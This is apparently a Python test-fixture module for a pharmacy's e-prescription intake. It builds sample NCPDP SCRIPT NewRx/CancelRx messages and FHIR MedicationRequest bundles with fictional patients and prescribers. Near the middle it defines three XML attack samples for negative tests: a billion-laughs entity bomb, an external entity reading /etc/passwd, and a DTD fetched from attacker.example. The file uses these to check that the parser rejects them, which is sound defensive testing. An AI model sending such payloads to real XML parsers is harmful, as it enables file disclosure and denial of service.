"""Sample e-prescriptions for tests: NCPDP SCRIPT messages as bytes, FHIR resources as dicts.

Every builder returns a complete, valid message by default; keyword arguments change one
value, ``omit`` leaves elements out (by local name), so a negative test says only what is
wrong with its message. The HTTP tests of the intake endpoints reuse them.

The shared test files (``shared/data/erx`` beside the checkout) are found with
``shared_erx_file``, which skips the test when they are absent.
"""

import xml.etree.ElementTree as ET
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from pharmacy.identifiers import dea_number_with_check_digit, npi_with_check_digit

SHARED_ERX = Path(__file__).resolve().parents[3] / "shared" / "data" / "erx"
NCPDP_NAMESPACE = "http://www.ncpdp.org/schema/SCRIPT"

VALID_NPI = npi_with_check_digit("123456789")  # 1234567893
VALID_DEA = dea_number_with_check_digit("BO", "123456")  # prescriber Okafor
PHARMACY_NCPDP_ID = "7701630"
SENDER_ID = "SURESCRIPTS-77777"


def shared_erx_file(*parts: str) -> Path:
    """A file under shared/data/erx, or skip: the shared data lives outside the repository
    (DESIGN.md test data) and a checkout on its own does not have it."""
    path = SHARED_ERX.joinpath(*parts)
    if not path.is_file():
        pytest.skip(f"shared e-Rx test data not found at {path} (it lives beside the checkout)")
    return path


# --------------------------------------------------------------------------- NCPDP SCRIPT


def _version_attributes(version: str) -> str:
    return (
        f'DatatypesVersion="{version}" TransportVersion="{version}" TransactionDomain="SCRIPT" '
        f'TransactionVersion="{version}" StructuresVersion="{version}" ECLVersion="{version}"'
    )


def _finish(xml: str, *, namespace: bool, omit: tuple[str, ...]) -> bytes:
    """Serialise the message, leaving out the elements named in ``omit`` and putting it in
    the SCRIPT namespace when asked (a default ``xmlns``, as senders write it)."""
    root = ET.fromstring(xml)  # our own trusted text
    if omit:
        for parent in list(root.iter()):
            for child in list(parent):
                if child.tag in omit:
                    parent.remove(child)
    if namespace:
        root.set("xmlns", NCPDP_NAMESPACE)
    return ET.tostring(root, encoding="utf-8", xml_declaration=True)


def _header(message_id: str, *, relates_to: str = "", prescriber_order_number: str = "") -> str:
    return f"""
  <Header>
    <To Qualifier="P">{PHARMACY_NCPDP_ID}</To>
    <From Qualifier="C">{SENDER_ID}</From>
    <MessageID>{escape(message_id)}</MessageID>
    {f"<RelatesToMessageID>{escape(relates_to)}</RelatesToMessageID>" if relates_to else ""}
    <SentTime>2024-03-01T14:05:09.120Z</SentTime>
    {
        f"<PrescriberOrderNumber>{escape(prescriber_order_number)}</PrescriberOrderNumber>"
        if prescriber_order_number
        else ""
    }
  </Header>"""


def _patient(version: str, *, last: str, first: str, middle: str, dob: str, gender: str) -> str:
    name = f"""<Name><LastName>{escape(last)}</LastName><FirstName>{escape(first)}</FirstName>
          <MiddleName>{escape(middle)}</MiddleName></Name>"""
    if version == "2023011":
        # Later versions wrap the name in Names and the sex in GenderAndSex.
        name = f"<Names>{name}</Names>"
        sex = f"<GenderAndSex><AdministrativeGender>{gender}</AdministrativeGender></GenderAndSex>"
    else:
        sex = f"<Gender>{gender}</Gender>"
    return f"""
      <Patient>
        <HumanPatient>
          {name}
          {sex}
          <DateOfBirth><Date>{escape(dob)}</Date></DateOfBirth>
          <Address>
            <AddressLine1>418 Maple Ave</AddressLine1>
            <AddressLine2>Apt 2B</AddressLine2>
            <City>Dayton</City>
            <StateProvince>OH</StateProvince>
            <PostalCode>45402</PostalCode>
            <CountryCode>US</CountryCode>
          </Address>
          <CommunicationNumbers>
            <PrimaryTelephone><Number>9375550142</Number></PrimaryTelephone>
          </CommunicationNumbers>
        </HumanPatient>
      </Patient>"""


def _prescriber(version: str, *, npi: str, dea: str, kind: str = "NonVeterinarian") -> str:
    name = "<Name><LastName>Okafor</LastName><FirstName>Chidi</FirstName></Name>"
    if version == "2023011":
        name = f"<Names>{name}</Names>"
    identifiers = "".join(
        f"<{tag}>{escape(value)}</{tag}>"
        for tag, value in (("NPI", npi), ("DEANumber", dea), ("StateLicenseNumber", "35.123456"))
        if value
    )
    return f"""
      <Prescriber>
        <{kind}>
          <Identification>{identifiers}</Identification>
          {name}
          <Address>
            <AddressLine1>1 Medical Plaza</AddressLine1>
            <City>Columbus</City>
            <StateProvince>OH</StateProvince>
            <PostalCode>43215</PostalCode>
            <CountryCode>US</CountryCode>
          </Address>
          <CommunicationNumbers>
            <PrimaryTelephone><Number>6145550100</Number></PrimaryTelephone>
            <Fax><Number>6145550199</Number></Fax>
          </CommunicationNumbers>
        </{kind}>
      </Prescriber>"""


def _medication(
    version: str,
    *,
    description: str,
    ndc: str | None,
    schedule: str | None,
    quantity: str,
    unit: str,
    days_supply: str,
    refills: str,
    written_date: str,
    substitutions: str,
    sig: str,
    note: str,
) -> str:
    strength = """<Strength><StrengthValue>20</StrengthValue>
          <StrengthForm><Code>C42998</Code></StrengthForm>
          <StrengthUnitOfMeasure><Code>C28253</Code></StrengthUnitOfMeasure></Strength>"""
    deaschedule = f"<DEASchedule><Code>{escape(schedule)}</Code></DEASchedule>" if schedule else ""
    if version == "2023011":
        # Later versions: codes under Product/DrugCoded, the NDC in its own element,
        # Substitutions nested.
        ndc_xml = f"<NDC>{escape(ndc)}</NDC>" if ndc else ""
        drug = f"""<DrugDescription>{escape(description)}</DrugDescription>
        <Product>
          <DrugCoded>
            {ndc_xml}
            <ProductCode><Code>617318</Code><Qualifier>SCD</Qualifier></ProductCode>
            {strength}
            {deaschedule}
          </DrugCoded>
        </Product>"""
        substitutions_xml = (
            f"<Substitutions><Substitutions>{substitutions}</Substitutions></Substitutions>"
        )
    else:
        ndc_xml = (
            f"<ProductCode><Code>{escape(ndc)}</Code><Qualifier>ND</Qualifier></ProductCode>"
            if ndc
            else ""
        )
        drug = f"""<DrugDescription>{escape(description)}</DrugDescription>
        <DrugCoded>
          {ndc_xml}
          {strength}
          {deaschedule}
        </DrugCoded>"""
        substitutions_xml = f"<Substitutions>{substitutions}</Substitutions>"
    return f"""
      <MedicationPrescribed>
        {drug}
        <Quantity>
          <Value>{escape(quantity)}</Value>
          <CodeListQualifier>38</CodeListQualifier>
          <QuantityUnitOfMeasure><Code>{escape(unit)}</Code></QuantityUnitOfMeasure>
        </Quantity>
        <DaysSupply>{escape(days_supply)}</DaysSupply>
        <WrittenDate><Date>{escape(written_date)}</Date></WrittenDate>
        {substitutions_xml}
        <NumberOfRefills>{escape(refills)}</NumberOfRefills>
        <Sig><SigText>{escape(sig)}</SigText></Sig>
        {f"<Note>{escape(note)}</Note>" if note else ""}
      </MedicationPrescribed>"""


def new_rx(
    *,
    message_id: str = "NEWRX-20240301-0001",
    version: str = "2017071",
    namespace: bool = True,
    patient_last: str = "Rivera",
    patient_first: str = "Ana",
    patient_middle: str = "Maria",
    date_of_birth: str = "1961-04-12",
    gender: str = "F",
    npi: str = VALID_NPI,
    dea: str = VALID_DEA,
    prescriber_kind: str = "NonVeterinarian",
    description: str = "Atorvastatin 20 MG Oral Tablet",
    ndc: str | None = "00071015523",
    schedule: str | None = None,
    quantity: str = "90",
    unit: str = "C48542",
    days_supply: str = "90",
    refills: str = "3",
    written_date: str = "2024-03-01",
    substitutions: str = "0",
    sig: str = "Take 1 tablet by mouth once daily at bedtime",
    note: str = "Patient prefers easy-open caps",
    prescriber_order_number: str = "PON-7781",
    omit: tuple[str, ...] = (),
) -> bytes:
    """A NewRx: ``version`` "2017071" (the structure SCRIPT 2017071 defines) or "2023011"
    (Names/Name, GenderAndSex, Product/DrugCoded/NDC, nested Substitutions)."""
    xml = f"""<Message {_version_attributes(version)}>
  {_header(message_id, prescriber_order_number=prescriber_order_number)}
  <Body>
    <NewRx>
      {_patient(version, last=patient_last, first=patient_first, middle=patient_middle,
                dob=date_of_birth, gender=gender)}
      <Pharmacy>
        <Identification><NCPDPID>{PHARMACY_NCPDP_ID}</NCPDPID></Identification>
        <BusinessName>Mail Order Pharmacy</BusinessName>
      </Pharmacy>
      {_prescriber(version, npi=npi, dea=dea, kind=prescriber_kind)}
      {_medication(version, description=description, ndc=ndc, schedule=schedule,
                   quantity=quantity, unit=unit, days_supply=days_supply, refills=refills,
                   written_date=written_date, substitutions=substitutions, sig=sig, note=note)}
    </NewRx>
  </Body>
</Message>"""  # fmt: skip
    return _finish(xml, namespace=namespace, omit=omit)


def cancel_rx(
    *,
    message_id: str = "CANCELRX-20240305-0001",
    relates_to: str = "NEWRX-20240301-0001",
    prescriber_order_number: str = "PON-7781",
    namespace: bool = True,
    npi: str = VALID_NPI,
    reason: str = "Therapy changed: patient to start rosuvastatin",
    omit: tuple[str, ...] = (),
) -> bytes:
    """A CancelRx for the prescription ``new_rx()`` sends."""
    note = f"<Note>{escape(reason)}</Note>" if reason else ""
    xml = f"""<Message {_version_attributes("2017071")}>
  {_header(message_id, relates_to=relates_to, prescriber_order_number=prescriber_order_number)}
  <Body>
    <CancelRx>
      {_patient("2017071", last="Rivera", first="Ana", middle="Maria", dob="1961-04-12",
                gender="F")}
      {_prescriber("2017071", npi=npi, dea=VALID_DEA)}
      <MedicationPrescribed>
        <DrugDescription>Atorvastatin 20 MG Oral Tablet</DrugDescription>
        <Quantity><Value>90</Value><CodeListQualifier>38</CodeListQualifier>
          <QuantityUnitOfMeasure><Code>C48542</Code></QuantityUnitOfMeasure></Quantity>
        <WrittenDate><Date>2024-03-01</Date></WrittenDate>
        {note}
      </MedicationPrescribed>
    </CancelRx>
  </Body>
</Message>"""  # fmt: skip
    return _finish(xml, namespace=namespace, omit=omit)


def script_message(body: str, *, message_id: str = "MSG-0001", namespace: bool = True) -> bytes:
    """Any SCRIPT message: ``body`` is the XML inside ``<Body>``."""
    xml = f"""<Message {_version_attributes("2017071")}>{_header(message_id)}
  <Body>{body}</Body></Message>"""
    return _finish(xml, namespace=namespace, omit=())


# Entity expansion attacks: each must be refused before anything is expanded or fetched.
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE Message [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Message><Header><MessageID>&lol9;</MessageID></Header><Body><NewRx/></Body></Message>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Message [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Message><Header><MessageID>&secret;</MessageID></Header><Body><NewRx/></Body></Message>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Message SYSTEM "http://attacker.example/script.dtd">
<Message><Header><MessageID>X1</MessageID></Header><Body><NewRx/></Body></Message>"""


# --------------------------------------------------------------------------- FHIR R4


def fhir_patient(*, id: str = "pat1", birth_date: str = "1961-04-12") -> dict:
    return {
        "resourceType": "Patient",
        "id": id,
        "name": [
            {"use": "nickname", "given": ["Annie"], "family": "Rivera"},
            {"use": "official", "family": "Rivera", "given": ["Ana", "Maria"]},
        ],
        "gender": "female",
        "birthDate": birth_date,
        "telecom": [
            {"system": "email", "value": "ana@example.com"},
            {"system": "phone", "value": "937-555-0142"},
        ],
        "address": [
            {
                "use": "home",
                "line": ["418 Maple Ave", "Apt 2B"],
                "city": "Dayton",
                "state": "OH",
                "postalCode": "45402",
                "country": "US",
            }
        ],
    }


def fhir_practitioner(*, id: str = "prac1", npi: str = VALID_NPI, dea: str = VALID_DEA) -> dict:
    identifiers = [{"system": "http://hl7.org/fhir/sid/us-npi", "value": npi}]
    if dea:
        identifiers.append({"system": "urn:oid:2.16.840.1.113883.4.814", "value": dea})
    return {
        "resourceType": "Practitioner",
        "id": id,
        "identifier": identifiers,
        "name": [{"family": "Okafor", "given": ["Chidi"], "prefix": ["Dr."]}],
        "telecom": [
            {"system": "phone", "value": "614-555-0100"},
            {"system": "fax", "value": "614-555-0199"},
        ],
        "address": [{"line": ["1 Medical Plaza"], "city": "Columbus", "state": "OH"}],
    }


def fhir_medication(*, id: str = "med1", ndc: str | None = "0071-0155-23") -> dict:
    coding = [
        {
            "system": "http://www.nlm.nih.gov/research/umls/rxnorm",
            "code": "617318",
            "display": "atorvastatin 20 MG Oral Tablet",
        }
    ]
    if ndc is not None:
        coding.append({"system": "http://hl7.org/fhir/sid/ndc", "code": ndc})
    return {
        "resourceType": "Medication",
        "id": id,
        "code": {"coding": coding, "text": "Atorvastatin 20 MG Oral Tablet"},
        "form": {"text": "Tablet"},
        "ingredient": [
            {
                "itemCodeableConcept": {"text": "atorvastatin"},
                "strength": {
                    "numerator": {"value": 20, "unit": "mg"},
                    "denominator": {"value": 1, "unit": "TAB"},
                },
            }
        ],
    }


def fhir_medication_request(
    *,
    subject: str = "#pat1",
    requester: str = "#prac1",
    medication: str = "#med1",
    contained: tuple[dict, ...] | None = None,
    authored_on: str = "2024-03-01",
    quantity=90,
    repeats=3,
    days=90,
    sig: str = "Take 1 tablet by mouth once daily at bedtime",
) -> dict:
    """A MedicationRequest; by default its patient, prescriber and medication are
    contained. Pass ``contained=()`` and other references to point into a Bundle."""
    if contained is None:
        contained = (fhir_patient(), fhir_practitioner(), fhir_medication())
    return {
        "resourceType": "MedicationRequest",
        "id": "rx-20240301-0001",
        "contained": list(contained),
        "identifier": [
            {"use": "secondary", "system": "urn:ehr:visit", "value": "V-33"},
            {"use": "official", "system": "urn:ehr:orders", "value": "PON-7781"},
        ],
        "status": "active",
        "intent": "order",
        "medicationReference": {"reference": medication},
        "subject": {"reference": subject},
        "authoredOn": authored_on,
        "requester": {"reference": requester},
        "note": [{"text": "Patient prefers easy-open caps"}],
        "dosageInstruction": [{"sequence": 1, "text": sig}],
        "dispenseRequest": {
            "numberOfRepeatsAllowed": repeats,
            "quantity": {
                "value": quantity,
                "unit": "TAB",
                "system": "http://terminology.hl7.org/CodeSystem/v3-orderableDrugForm",
                "code": "TAB",
            },
            "expectedSupplyDuration": {
                "value": days,
                "unit": "days",
                "system": "http://unitsofmeasure.org",
                "code": "d",
            },
        },
        "substitution": {"allowedBoolean": True},
    }


def fhir_bundle(*, style: str = "uuid", request: dict | None = None) -> dict:
    """A Bundle with the MedicationRequest and the Patient, Practitioner and Medication it
    references: ``style`` "uuid" (``urn:uuid:`` fullUrls and references) or "relative"
    (absolute fullUrls, references ``Patient/pat1``)."""
    resources = {
        "Patient": fhir_patient(),
        "Practitioner": fhir_practitioner(),
        "Medication": fhir_medication(),
    }
    if style == "uuid":
        urls = {
            "Patient": "urn:uuid:4b7ea3c5-2a7d-4d55-9d3c-0a4f4c1e6a01",
            "Practitioner": "urn:uuid:4b7ea3c5-2a7d-4d55-9d3c-0a4f4c1e6a02",
            "Medication": "urn:uuid:4b7ea3c5-2a7d-4d55-9d3c-0a4f4c1e6a03",
        }
        references = urls
    else:
        urls = {
            kind: f"https://ehr.example.org/fhir/{kind}/{resource['id']}"
            for kind, resource in resources.items()
        }
        references = {kind: f"{kind}/{resource['id']}" for kind, resource in resources.items()}
    if request is None:
        request = fhir_medication_request(
            subject=references["Patient"],
            requester=references["Practitioner"],
            medication=references["Medication"],
            contained=(),
        )
    entries = [{"fullUrl": "urn:uuid:4b7ea3c5-2a7d-4d55-9d3c-0a4f4c1e6a00", "resource": request}]
    entries += [{"fullUrl": urls[kind], "resource": resources[kind]} for kind in resources]
    return {
        "resourceType": "Bundle",
        "id": "bundle-0001",
        "identifier": {"system": "urn:ehr:messages", "value": "MSG-FHIR-0001"},
        "type": "collection",
        "entry": entries,
    }


def network_new_rx(
    *,
    message_id: str = "SS-3f9a1c2e7b",
    namespace: bool = False,
    written: str = "2024-03-01T14:02:11.4Z",
    ndc: str | None = "00071015523",
    drug_db_code: str = "617318",
    drug_db_qualifier: str = "SCD",
    schedule: str = "C38046",
    description: str = "Atorvastatin 20 MG Oral Tablet",
    refills: str = "3",
) -> bytes:
    """A NewRx written the way several e-prescribing networks write one, kept byte for byte
    (it does not go through ``_finish``, which would rewrite its escapes).

    The version attributes and an ``xmlns:xsi`` declaration sit on ``Message`` with no
    SCRIPT namespace (``namespace=True`` adds the default one), the written date is a
    ``DateTime``, the drug carries an RxNorm ``DrugDBCode`` beside its NDC (or instead of
    it, ``ndc=None``), every drug is sent with the DEA schedule ``C38046``
    ("Unspecified"), and the patient's and clinic's names hold XML escapes
    (O&apos;Connor, Smith &amp; Sons Clinic). Empty optional elements are left in, as
    those senders do.
    """
    xmlns = f' xmlns="{NCPDP_NAMESPACE}"' if namespace else ""
    product_code = (
        f"<ProductCode><Code>{ndc}</Code><Qualifier>ND</Qualifier></ProductCode>" if ndc else ""
    )
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<Message{xmlns} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" \
DatatypesVersion="20170715" TransportVersion="20170715" TransactionDomain="SCRIPT" \
TransactionVersion="20170715" StructuresVersion="20170715" ECLVersion="20170715">
<Header>
<To Qualifier="P">{PHARMACY_NCPDP_ID}</To>
<From Qualifier="C">{SENDER_ID}</From>
<MessageID>{message_id}</MessageID>
<SentTime>2024-03-01T14:02:13.8Z</SentTime>
<Security><Sender><TertiaryIdentification>EHR1</TertiaryIdentification></Sender></Security>
<SenderSoftware><SenderSoftwareDeveloper>Smith &amp; Sons EHR</SenderSoftwareDeveloper>\
<SenderSoftwareProduct>Chart</SenderSoftwareProduct>\
<SenderSoftwareVersionRelease>12.4</SenderSoftwareVersionRelease></SenderSoftware>
<PrescriberOrderNumber>SS-PON-90210</PrescriberOrderNumber>
</Header>
<Body>
<NewRx>
<Patient>
<HumanPatient>
<Name><LastName>O&apos;Connor</LastName><FirstName>Siobh&#225;n</FirstName><MiddleName/></Name>
<Gender>F</Gender>
<DateOfBirth><Date>1958-11-30</Date></DateOfBirth>
<Address><AddressLine1>12 Quarry Rd</AddressLine1><City>Dayton</City>\
<StateProvince>OH</StateProvince><PostalCode>45402</PostalCode><CountryCode>US</CountryCode></Address>
<CommunicationNumbers><PrimaryTelephone><Number>9375550177</Number></PrimaryTelephone>\
</CommunicationNumbers>
</HumanPatient>
</Patient>
<Pharmacy>
<Identification><NCPDPID>{PHARMACY_NCPDP_ID}</NCPDPID><NPI/></Identification>
<BusinessName>Mail Order Pharmacy</BusinessName>
</Pharmacy>
<Prescriber>
<NonVeterinarian>
<Identification><StateLicenseNumber>35.123456</StateLicenseNumber><DEANumber/>\
<NPI>{VALID_NPI}</NPI></Identification>
<PracticeLocation><BusinessName>Smith &amp; Sons Clinic</BusinessName></PracticeLocation>
<Name><LastName>Okafor</LastName><FirstName>Chidi</FirstName></Name>
<Address><AddressLine1>1 Medical Plaza</AddressLine1><City>Columbus</City>\
<StateProvince>OH</StateProvince><PostalCode>43215</PostalCode><CountryCode>US</CountryCode></Address>
<CommunicationNumbers><PrimaryTelephone><Number>6145550100</Number></PrimaryTelephone>\
<Fax><Number>6145550199</Number></Fax></CommunicationNumbers>
</NonVeterinarian>
</Prescriber>
<MedicationPrescribed>
<DrugDescription>{description}</DrugDescription>
<DrugCoded>
{product_code}
<Strength><StrengthValue>20</StrengthValue><StrengthForm><Code>C42998</Code></StrengthForm>\
<StrengthUnitOfMeasure><Code>C28253</Code></StrengthUnitOfMeasure></Strength>
<DrugDBCode><Code>{drug_db_code}</Code><Qualifier>{drug_db_qualifier}</Qualifier></DrugDBCode>
<DEASchedule><Code>{schedule}</Code></DEASchedule>
</DrugCoded>
<Quantity><Value>90</Value><CodeListQualifier>38</CodeListQualifier>\
<QuantityUnitOfMeasure><Code>C48542</Code></QuantityUnitOfMeasure></Quantity>
<DaysSupply>90</DaysSupply>
<WrittenDate><DateTime>{written}</DateTime></WrittenDate>
<Substitutions>0</Substitutions>
<NumberOfRefills>{refills}</NumberOfRefills>
<Sig><SigText>Take 1 tablet by mouth once daily at bedtime</SigText></Sig>
</MedicationPrescribed>
</NewRx>
</Body>
</Message>
""".encode()
